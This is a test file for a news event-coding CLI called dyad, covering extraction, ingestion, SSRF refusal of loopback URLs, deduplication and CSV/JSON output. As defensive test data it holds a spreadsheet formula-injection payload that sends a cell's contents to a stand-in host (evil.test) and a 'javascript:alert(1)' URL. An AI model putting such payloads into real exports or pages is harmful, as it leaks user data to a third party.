import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import Database from 'better-sqlite3';
import { fileURLToPath } from 'node:url';
import { contractDocs } from '../../store/store.contract.js';
import { openStore } from '../../store/store.js';
import { parseCsv } from '../../test-support/csv.js';

const here = dirname(fileURLToPath(import.meta.url));
/**
 * The real CLI: the compiled bin when the tests run from dist/, else the source through tsx (resolved
 * here because the CLI runs with its working directory in a temp folder, outside node_modules' reach).
 */
const COMPILED = join(here, 'main.js');
const COMMAND = existsSync(COMPILED) ? [COMPILED] : ['--import', import.meta.resolve('tsx'), join(here, 'main.ts')];
const dir = mkdtempSync(join(tmpdir(), 'dyad-cli-'));
after(() => rmSync(dir, { recursive: true, force: true }));

interface Run {
  status: number | null;
  stdout: string;
  stderr: string;
}

function dyad(args: string[], input?: string): Run {
  const result = spawnSync(process.execPath, [...COMMAND, ...args], {
    cwd: dir, input, encoding: 'utf8', env: { ...process.env, DYAD_DEBUG: '' }, timeout: 60_000,
  });
  return { status: result.status, stdout: result.stdout, stderr: result.stderr };
}

/** The CLI as a child process that runs alongside others. */
function dyadAsync(args: string[], env: NodeJS.ProcessEnv = {}): Promise<Run> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [...COMMAND, ...args], { cwd: dir, env: { ...process.env, DYAD_DEBUG: '', ...env } });
    let stdout = '';
    let stderr = '';
    child.stdout.setEncoding('utf8').on('data', (chunk: string) => { stdout += chunk; });
    child.stderr.setEncoding('utf8').on('data', (chunk: string) => { stderr += chunk; });
    child.on('close', (status) => resolve({ status, stdout, stderr }));
  });
}

/** A user mistake: the given exit code and exactly one line on stderr, never a stack trace. */
function assertCleanFailure(run: Run, code: number, pattern: RegExp): void {
  assert.equal(run.status, code, run.stderr);
  assert.match(run.stderr, pattern);
  assert.equal(run.stderr.trim().split('\n').length, 1, run.stderr);
  assert.doesNotMatch(run.stderr, /\n\s+at /);
}

const FIRST = [
  'Delegations from two neighbouring republics met in the capital on Tuesday to discuss the border dispute.',
  'The foreign minister said the talks were "useful but difficult" and that a second round would follow.',
].join('\n');
const SECOND = 'Heavy rain flooded several villages in the river valley last week, forcing hundreds of families to leave their homes.';

function write(name: string, text: string): string {
  const path = join(dir, name);
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, text);
  return path;
}

describe('dyad CLI', () => {
  before(() => {
    write('first.txt', FIRST);
    write('corpus/second.txt', SECOND);
    write('corpus/nested/first-copy.txt', FIRST);
    write('corpus/notes.md', 'not a document type the walker reads');
  });

  test('prints help and version', () => {
    const help = dyad(['--help']);
    assert.equal(help.status, 0);
    assert.match(help.stdout, /extract/);
    assert.match(help.stdout, /events/);
    assert.match(dyad(['events', '--help']).stdout, /--actor/);
    assert.match(dyad(['--version']).stdout, /^\d+\.\d+\.\d+\n$/);
  });

  test('extract prints the whole analysed document as JSON', () => {
    const run = dyad(['extract', 'first.txt', '--published', '2031-05-06']);
    assert.equal(run.status, 0, run.stderr);
    const doc = JSON.parse(run.stdout) as { text: string; source: { published: string }; layers: { sentences?: unknown[] } };
    assert.match(doc.text, /neighbouring republics/);
    assert.equal(doc.source.published, '2031-05-06');
    assert.ok((doc.layers.sentences?.length ?? 0) >= 2);
  });

  test('extract JSON leaves the token layer out unless --tokens; --layers chooses the layers', () => {
    const layersOf = (run: Run): string[] => {
      assert.equal(run.status, 0, run.stderr);
      return Object.keys((JSON.parse(run.stdout) as { layers: object }).layers).sort();
    };
    const plain = layersOf(dyad(['extract', 'first.txt']));
    assert.ok(!plain.includes('tokens'));
    assert.ok(plain.includes('sentences') && plain.includes('events'), plain.join());
    assert.deepEqual(layersOf(dyad(['extract', 'first.txt', '--tokens'])), [...plain, 'tokens'].sort());
    assert.deepEqual(layersOf(dyad(['extract', 'first.txt', '--layers', 'events, entities'])), ['entities', 'events']);
    assert.deepEqual(layersOf(dyad(['extract', 'first.txt', '--layers', 'sentences', '--tokens'])), ['sentences', 'tokens']);
    const jsonl = dyad(['extract', '--jsonl', '--layers', 'dates'], `${JSON.stringify({ id: 'j', text: FIRST })}\n`);
    assert.deepEqual(Object.keys((JSON.parse(jsonl.stdout) as { layers: object }).layers), ['dates']);
    assertCleanFailure(dyad(['extract', 'first.txt', '--layers', 'events,verbs']), 2, /--layers: unknown layer "verbs"; layers are paragraphs, sentences, tokens/);
    assertCleanFailure(dyad(['extract', 'first.txt', '--layers', ',']), 2, /--layers needs one or more/);
    assertCleanFailure(dyad(['extract', 'first.txt', '--format', 'pretty', '--tokens']), 2, /--format pretty is a fixed summary/);
  });

  test('extract - reads one document from stdin', () => {
    const run = dyad(['extract', '-', '--format', 'json'], SECOND);
    assert.equal(run.status, 0, run.stderr);
    assert.equal((JSON.parse(run.stdout) as { text: string }).text, SECOND);
  });

  test('--published fills in a missing publication date, --set-published replaces the document\'s own', async () => {
    write('dated.html', `<html><head><meta property="article:published_time" content="2030-12-01T08:00:00Z"></head>
      <body><article><p>${SECOND}</p></article></body></html>`);
    const published = (run: Run): string | undefined => {
      assert.equal(run.status, 0, run.stderr);
      return (JSON.parse(run.stdout) as { source: { published?: string } }).source.published;
    };
    assert.equal(published(dyad(['extract', 'dated.html', '--published', '2031-05-06'])), '2030-12-01T08:00:00Z');
    assert.equal(published(dyad(['extract', 'dated.html', '--set-published', '2031-05-06'])), '2031-05-06');
    assertCleanFailure(dyad(['extract', 'dated.html', '--published', '2031-05-06', '--set-published', '2031-05-07']), 2, /give one of them/);
    assertCleanFailure(dyad(['ingest', 'dated.html', '--set-published', '2031-02-30']), 2, /--set-published must be a date as YYYY-MM-DD/);
    for (const command of ['extract', 'ingest']) assert.match(dyad([command, '--help']).stdout, /--set-published YYYY-MM-DD/);

    const records = [
      JSON.stringify({ id: 'own', text: FIRST, published: '2030-01-02' }),
      JSON.stringify({ id: 'none', text: SECOND }),
      JSON.stringify({ id: 'impossible', text: `${SECOND} Aid arrived.`, published: '2020-01-01T25:61:00Z' }),
    ].join('\n');
    const sources = (run: Run) => {
      assert.equal(run.status, 0, run.stderr);
      return run.stdout.trim().split('\n').map((line) => JSON.parse(line) as { source: { published?: string }; messages: Array<{ ruleId: string; severity: string }> });
    };
    const filled = sources(dyad(['extract', '--jsonl', '--published', '2031-05-06'], records));
    assert.deepEqual(filled.map((doc) => doc.source.published), ['2030-01-02', '2031-05-06', '2031-05-06']);
    assert.ok(filled[2]?.messages.some((m) => m.ruleId === 'bad-published' && m.severity === 'warning'));
    const replaced = sources(dyad(['extract', '--jsonl', '--set-published', '2031-05-06'], records));
    assert.deepEqual(replaced.map((doc) => doc.source.published), ['2031-05-06', '2031-05-06', '2031-05-06']);
    const unset = sources(dyad(['extract', '--jsonl'], records));
    assert.deepEqual(unset.map((doc) => doc.source.published), ['2030-01-02', undefined, undefined]);
    assert.ok(unset[2]?.messages.some((m) => m.ruleId === 'bad-published'));

    const storedDates = (option: string): string[] => {
      const db = `dates${option}.db`;
      const run = dyad(['ingest', 'dated.html', 'first.txt', '--db', db, option, '2031-05-06']);
      assert.equal(run.status, 0, run.stderr);
      const raw = new Database(join(dir, db), { readonly: true });
      try {
        return raw.prepare('SELECT published FROM documents ORDER BY published').pluck().all() as string[];
      } finally {
        raw.close();
      }
    };
    assert.deepEqual(storedDates('--published'), ['2030-12-01T08:00:00Z', '2031-05-06']);
    assert.deepEqual(storedDates('--set-published'), ['2031-05-06', '2031-05-06']);
  });

  test('extract --format pretty prints a readable summary', () => {
    const run = dyad(['extract', join(dir, 'first.txt'), '--format', 'pretty', '--published', '2031-05-06']);
    assert.equal(run.status, 0, run.stderr);
    assert.match(run.stdout, /published 2031-05-06 \(user\)/);
    assert.match(run.stdout, /language eng/);
    assert.doesNotMatch(run.stdout, /^\s*[{[]/);
  });

  test('extract --jsonl streams one document per line and reports bad lines without stopping', () => {
    const input = [
      JSON.stringify({ id: 'a', text: FIRST, published: '2031-05-06' }),
      '{"id": "broken", "text": ',
      '',
      JSON.stringify({ id: 7, html: `<html><body><article><p>${SECOND}</p></article></body></html>` }),
      JSON.stringify({ id: 'no-text' }),
    ].join('\n');
    const run = dyad(['extract', '--jsonl'], input);
    assert.equal(run.status, 0, run.stderr);
    const lines = run.stdout.trim().split('\n').map((line) => JSON.parse(line) as Record<string, unknown>);
    assert.equal(lines.length, 4);
    assert.equal((lines[0]?.source as { inputId: string }).inputId, 'a');
    assert.deepEqual({ inputId: lines[1]?.inputId, line: lines[1]?.line }, { inputId: null, line: 2 });
    assert.match(String(lines[1]?.error), /not JSON/);
    assert.equal((lines[2]?.source as { format: string }).format, 'html');
    assert.match(String(lines[2]?.text), /flooded/);
    assert.equal((lines[2]?.source as { inputId: string }).inputId, '7');
    assert.deepEqual({ inputId: lines[3]?.inputId, id: lines[3]?.id }, { inputId: 'no-text', id: undefined });
    assert.match(run.stderr, /2 documents \(skipped 0\), 2 bad lines/);
  });

  test('extract --jsonl also reads a file', () => {
    write('batch.jsonl', `${JSON.stringify({ id: 'f1', text: SECOND })}\n`);
    const run = dyad(['extract', '--jsonl', 'batch.jsonl']);
    assert.equal(run.status, 0, run.stderr);
    assert.equal((JSON.parse(run.stdout) as { source: { inputId: string } }).source.inputId, 'f1');
    assertCleanFailure(dyad(['extract', '--jsonl', 'nope.jsonl']), 1, /no such file: nope\.jsonl/);
  });

  test('ingest counts an unreachable URL as failed and exits 1 when nothing could be stored', () => {
    const run = dyad(['ingest', 'http://127.0.0.1:1/feed-item', '--db', 'urls.db', '--allow-host', '127.0.0.1:1']);
    assert.equal(run.status, 1);
    assert.match(run.stdout, /fetched 1, new 0, duplicates 0, near-duplicates 0, skipped 0, failed 1 \(unreachable 1\);/);
    assert.match(run.stderr, /^\S+ failed http:\/\/127\.0\.0\.1:1\/feed-item: cannot fetch/m);
    assert.doesNotMatch(run.stderr, /\n\s+at /);
  });

  test('ingest refuses a local URL unless --allow-host or DYAD_ALLOW_HOSTS names it', async () => {
    const { startServer } = await import('../../test-support/http-server.js');
    const server = await startServer({
      '/story': (_request, response) => {
        response.writeHead(200, { 'content-type': 'text/plain; charset=utf-8' });
        response.end(SECOND);
      },
    });
    try {
      const refused = await dyadAsync(['ingest', `${server.base}/story`, '--db', 'allow.db']);
      assert.equal(refused.status, 1);
      const line = `failed ${server.base}/story: refusing ${server.base}/story: 127.0.0.1 is a loopback address (SSRF guard; --allow-host to allow)`;
      assert.match(refused.stderr.trim(), new RegExp(`^\\S+ ${line.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')}$`));
      assert.deepEqual(server.requests, []);
      const allowed = await dyadAsync(['ingest', `${server.base}/story`, '--db', 'allow.db', '--allow-host', 'localhost', '--allow-host', server.hostPort]);
      assert.equal(allowed.status, 0, allowed.stderr);
      assert.match(allowed.stdout, /^fetched 1, new 1,/);
      assert.match(server.headers.at(-1)?.['user-agent'] ?? '', /^Dyad\/\S+ \(news event coder; no contact URL set\)$/);
      const byEnv = await dyadAsync(['extract', `${server.base}/story`], { DYAD_ALLOW_HOSTS: `example.org, ${server.hostPort}`, DYAD_CONTACT_URL: 'mailto:desk@news.example' });
      assert.equal(byEnv.status, 0, byEnv.stderr);
      assert.equal(server.headers.at(-1)?.['user-agent']?.endsWith('(+mailto:desk@news.example)'), true);
      assertCleanFailure(dyad(['extract', `${server.base}/story`, '--allow-host', 'http://x/y']), 2, /allowed host "http:\/\/x\/y" is not a host name/);
    } finally {
      await server.close();
    }
  });

  test('ingest stores each document once, however often it is run', async () => {
    const first = dyad(['ingest', 'first.txt', 'corpus', '--db', 'ingest.db', '--published', '2031-05-06']);
    assert.equal(first.status, 0, first.stderr);
    assert.match(first.stdout, /^fetched 3, new 2, duplicates 1, near-duplicates 0, skipped 0, failed 0;/);
    const again = dyad(['ingest', 'corpus', 'first.txt', '--db', 'ingest.db']);
    assert.equal(again.status, 0, again.stderr);
    assert.match(again.stdout, /^fetched 3, new 0, duplicates 3, near-duplicates 0, skipped 0, failed 0;/);
    const store = await openStore(join(dir, 'ingest.db'));
    assert.equal(await store.countDocs(), 2);
    await store.close();
  });

  test('ingest reads JSON Lines from stdin and counts skipped and failed lines', () => {
    const input = [
      JSON.stringify({ id: 'x', text: `${SECOND} The regional governor promised help.` }),
      JSON.stringify({ id: 'fr', text: 'Les pluies ont inondé plusieurs villages de la vallée la semaine dernière.' }),
      'not json',
    ].join('\n');
    const run = dyad(['ingest', '-', '--db', 'stdin.db'], input);
    assert.equal(run.status, 0, run.stderr);
    assert.match(run.stdout, /^fetched 3, new 1, duplicates 0, near-duplicates 0, skipped 1 \(not-english 1\), failed 1 \(error 1\);/);
    assert.match(run.stderr, /failed stdin:3: line 3: not JSON/);
  });

  test('two ingests into one database at once both finish and store each document once', async () => {
    // Documents in another language are stored with their skip reason without running the pipeline, so
    // the two processes spend their time writing, one document per transaction, and overlap constantly.
    const lines = (first: number, last: number) => Array.from({ length: last - first + 1 }, (_, i) => JSON.stringify({
      url: `https://example.test/${first + i}`,
      text: 'Les délégations des deux républiques voisines se sont réunies mardi dans la capitale pour discuter du différend frontalier.',
    })).join('\n');
    write('concurrent/a.jsonl', lines(0, 599));
    write('concurrent/b.jsonl', lines(300, 899));
    const runs = await Promise.all(['a', 'b'].map((name) =>
      dyadAsync(['ingest', `concurrent/${name}.jsonl`, '--db', 'concurrent.db', '--batch-size', '1'])));
    for (const run of runs) assert.equal(run.status, 0, run.stderr);
    const store = await openStore(join(dir, 'concurrent.db'), { readOnly: true });
    try {
      assert.equal(await store.countDocs(), 900);
      assert.deepEqual(await store.skipReasons(), [{ value: 'not-english', count: 900 }]);
    } finally {
      await store.close();
    }
  });

  test('reading commands refuse a file that is not a Dyad database and leave it as it was', () => {
    const foreign = join(dir, 'foreign.db');
    const raw = new Database(foreign);
    raw.exec("CREATE TABLE notes (body TEXT); INSERT INTO notes VALUES ('kept')");
    raw.close();
    const before = readFileSync(foreign);
    const files = readdirSync(dir).length;
    assertCleanFailure(dyad(['events', '--db', 'foreign.db']), 1, /^dyad: foreign\.db is not a Dyad database/);
    assertCleanFailure(dyad(['events', '--db', 'first.txt']), 1, /^dyad: first\.txt is not a Dyad database \(not a SQLite file\)/);
    assert.deepEqual(readFileSync(foreign), before);
    assert.equal(readdirSync(dir).length, files, 'no -wal, -shm or new database file');
    assertCleanFailure(dyad(['events', '--db', 'sqlite:nowhere.db']), 1, /no database at nowhere\.db/);
    assert.equal(existsSync(join(dir, 'nowhere.db')), false);
  });

  test('the input\'s own id is inputId in stored documents, event listings and failure lines', async () => {
    const input = [
      JSON.stringify({ id: 'wire-1', text: FIRST, published: '2031-05-06', url: 'javascript:alert(1)' }),
      JSON.stringify({ id: 'wire-2' }),
    ].join('\n');
    const run = dyad(['ingest', '-', '--db', 'ids.db'], input);
    assert.equal(run.status, 0, run.stderr);
    assert.match(run.stderr, /^\S+ failed stdin:2 \(inputId "wire-2"\): line 2: needs a "text"/m);
    const store = await openStore(join(dir, 'ids.db'));
    const [event] = await store.queryEvents({});
    const doc = await store.getDoc(event?.docId ?? '');
    await store.close();
    assert.equal(doc?.source.inputId, 'wire-1');
    assert.equal(doc?.source.url, undefined, 'a javascript: URL is not kept');
    assert.ok(doc?.messages.some((m) => m.ruleId === 'url-dropped'));
    const listed = dyad(['events', '--db', 'ids.db', '--format', 'jsonl']);
    const stored = listed.stdout.trim().split('\n').map((line) => JSON.parse(line) as { inputId?: string; docId: string });
    assert.ok(stored.length > 0 && stored.every((e) => e.inputId === 'wire-1' && e.docId === doc?.id));
    const [header, row] = parseCsv(dyad(['events', '--db', 'ids.db', '--format', 'csv']).stdout);
    assert.equal(row?.[header?.indexOf('input_id') ?? -1], 'wire-1');
  });

  describe('events', () => {
    before(async () => {
      const store = await openStore(join(dir, 'events.db'));
      const docs = contractDocs();
      await store.putDocs([docs.shelling, docs.talks, docs.protest, docs.skipped]);
      await store.close();
    });

    test('lists events as an aligned table', () => {
      const run = dyad(['events', '--db', 'events.db']);
      assert.equal(run.status, 0, run.stderr);
      const lines = run.stdout.trimEnd().split('\n');
      assert.equal(lines.length, 5);
      assert.match(lines[0] ?? '', /^date\s+type\s+cameo\s+actor\s+recipient\s+place\s+conf\s+doc$/);
      assert.match(lines[1] ?? '', /^2031-04-01\s+CONSULT\s+043\s+SLDGOV\s+NLDGOV\s+Geneva CHE\s+0\.80/);
      assert.equal(lines[1]?.indexOf('CONSULT'), lines[0]?.indexOf('type'));
    });

    test('filters and writes JSON Lines', () => {
      const run = dyad(['events', '--db', 'events.db', '--type', 'assault', '--actor', 'NLDMIL', '--format', 'jsonl']);
      assert.equal(run.status, 0, run.stderr);
      const lines = run.stdout.trim().split('\n').map((line) => JSON.parse(line) as { event: { cameo: string } });
      assert.deepEqual(lines.map((l) => l.event.cameo), ['195']);
      const dated = dyad(['events', '--db', 'events.db', '--from', '2031-03-01', '--to', '2031-03-31', '--format', 'jsonl']);
      assert.equal(dated.stdout.trim().split('\n').length, 1);
    });

    test('lists only events reported as having happened unless --include names the others', async () => {
      const { shelling } = contractDocs();
      shelling.layers.events = shelling.layers.events!.map((event, i) => ({ ...event, negated: i === 0 }));
      const store = await openStore(join(dir, 'framed.db'));
      await store.putDocs([shelling]);
      await store.close();
      const cameos = (extra: string[]) => dyad(['events', '--db', 'framed.db', '--format', 'jsonl', ...extra]).stdout.trim().split('\n')
        .map((line) => (JSON.parse(line) as { event: { cameo: string } }).event.cameo).sort();
      assert.deepEqual(cameos([]), ['190']);
      assert.deepEqual(cameos(['--include', 'negated']), ['190', '195']);
      assert.deepEqual(cameos(['--include', 'all']), ['190', '195']);
      assertCleanFailure(dyad(['events', '--db', 'framed.db', '--include', 'denied']), 2, /--include: unknown flag "denied" \(flags are negated, hypothetical, future, historical, or all\)/);
    });

    test('writes CSV with a header and RFC 4180 quoting', () => {
      const run = dyad(['events', '--db', 'events.db', '--format', 'csv', '--country', 'SLD']);
      assert.equal(run.status, 0, run.stderr);
      const rows = run.stdout.split('\r\n').filter(Boolean);
      assert.equal(rows.length, 2);
      assert.match(rows[0] ?? '', /^id,doc_id,input_id,date,/);
      assert.match(rows[1] ?? '', /,ASSAULT,,195,4,-10,Northland artillery,NLDMIL,Vell,SLDCVL,Vell,SLD,41.5,22.25,0.9,false,shell,/);
    });

    test('CSV from a real store reads back with an RFC 4180 reader, formula cells neutralised, numbers kept', async () => {
      const { shelling } = contractDocs();
      const [first, second] = shelling.layers.events!;
      const formula = '=HYPERLINK("http://evil.test/?d="&A1,"open")';
      shelling.layers.events = [{ ...first!, goldstein: -10, actors: [{ ...first!.actors[0]!, text: formula }] }, second!];
      const store = await openStore(join(dir, 'hostile.db'));
      await store.putDocs([shelling]);
      await store.close();
      const run = dyad(['events', '--db', 'hostile.db', '--format', 'csv', '--cameo', '195']);
      assert.equal(run.status, 0, run.stderr);
      const [header, row, ...rest] = parseCsv(run.stdout);
      assert.equal(rest.length, 0);
      const cell = (name: string): string | undefined => row?.[header?.indexOf(name) ?? -1];
      assert.equal(cell('actor'), `'${formula}`);
      assert.equal(cell('goldstein'), '-10');
      assert.equal(cell('lat'), '41.5');
    });

    test('filters by CAMEO prefix and by words in the source text', () => {
      const byCameo = dyad(['events', '--db', 'events.db', '--cameo', '19', '--format', 'jsonl']);
      assert.equal(byCameo.stdout.trim().split('\n').length, 2);
      const byText = dyad(['events', '--db', 'events.db', '--text', 'ceasefire Geneva', '--format', 'jsonl']);
      assert.deepEqual(byText.stdout.trim().split('\n').map((l) => (JSON.parse(l) as { event: { plover: string } }).event.plover), ['CONSULT']);
      assertCleanFailure(dyad(['events', '--db', 'events.db', '--cameo', 'war']), 2, /--cameo must be a CAMEO code/);
      assertCleanFailure(dyad(['events', '--db', 'events.db', '--from', '2031-05-01', '--to', '2031-04-01']), 2, /is after --to/);
    });

    test('takes the largest limit and offset a number holds exactly', () => {
      const all = dyad(['events', '--db', 'events.db', '--limit', '9007199254740991', '--format', 'jsonl']);
      assert.equal(all.status, 0, all.stderr);
      assert.equal(all.stdout.trim().split('\n').length, 4);
      const none = dyad(['events', '--db', 'events.db', '--offset', '9007199254740991', '--format', 'jsonl']);
      assert.equal(none.status, 0, none.stderr);
      assert.equal(none.stdout, '');
    });

    test('an empty result says so on stderr', () => {
      const run = dyad(['events', '--db', 'events.db', '--type', 'SANCTION']);
      assert.equal(run.status, 0);
      assert.equal(run.stdout, '');
      assert.match(run.stderr, /no events match/);
    });
  });

  test('user mistakes give one clear line and a non-zero exit, never a stack trace', () => {
    assertCleanFailure(dyad(['extract', 'missing.txt']), 1, /no such file: missing\.txt/);
    assertCleanFailure(dyad(['extract', 'first.txt', '--published', '2031-02-30']), 2, /--published must be a date as YYYY-MM-DD/);
    assertCleanFailure(dyad(['extract', 'first.txt', '--colour']), 2, /extract: Unknown option '--colour'/);
    assertCleanFailure(dyad(['extract', 'first.txt', '--format', 'xml']), 2, /--format must be one of json, pretty/);
    assertCleanFailure(dyad(['extract']), 2, /needs a file/);
    assertCleanFailure(dyad(['frobnicate']), 2, /unknown command "frobnicate"/);
    assertCleanFailure(dyad(['extract', 'ftp://example.test/a']), 1, /only http and https/);
    assertCleanFailure(dyad(['extract', 'http://127.0.0.1:1/article', '--allow-host', '127.0.0.1']), 1, /cannot fetch http:\/\/127\.0\.0\.1:1\/article/);
    assertCleanFailure(dyad(['extract', 'http://[::1]/article']), 1, /^dyad: refusing http:\/\/\[::1\]\/article: ::1 is a loopback address \(SSRF guard; --allow-host to allow\)$/m);
    assertCleanFailure(dyad(['ingest', 'missing-folder']), 1, /no such file or folder: missing-folder/);
    assertCleanFailure(dyad(['ingest', 'first.txt', '--db', join(dir, 'first.txt', 'x.db')]), 1, /cannot open database/);
    assertCleanFailure(dyad(['events', '--db', 'nothing-here.db']), 1, /no database at nothing-here\.db/);
    assertCleanFailure(dyad(['events', '--limit', 'ten']), 2, /--limit must be a whole number/);
    assertCleanFailure(dyad(['events', '--limit', '99999999999999999999']), 2, /--limit must be a whole number from 0 to 9007199254740991, got "99999999999999999999"/);
    assertCleanFailure(dyad(['events', '--offset', '9007199254740992']), 2, /--offset must be a whole number/);
    assertCleanFailure(dyad(['events', '--limit', '1e3']), 2, /--limit must be a whole number/);
    assertCleanFailure(dyad(['ingest', 'first.txt', '--batch-size', '123456789012345678901234567890']), 2, /--batch-size must be a whole number from 1/);
    assertCleanFailure(dyad(['events', '--db', 'postgres://db/dyad']), 1, /not available yet/);
    const noArguments = dyad([]);
    assert.equal(noArguments.status, 2);
    assert.match(noArguments.stderr, /^Usage: dyad/);
  });

  test('DYAD_DEBUG=1 adds the stack trace', () => {
    const result = spawnSync(process.execPath, [...COMMAND, 'extract', 'missing.txt'], {
      cwd: dir, encoding: 'utf8', env: { ...process.env, DYAD_DEBUG: '1' }, timeout: 60_000,
    });
    assert.equal(result.status, 1);
    assert.match(result.stderr, /^dyad: no such file: missing\.txt\n.*Error/s);
    assert.match(result.stderr, /\n\s+at /);
  });
});

test('the built CLI is executable, so npx dyad runs it', { skip: existsSync(COMPILED) ? false : 'not built: running from source' }, () => {
  assert.ok((statSync(COMPILED).mode & 0o111) !== 0);
});
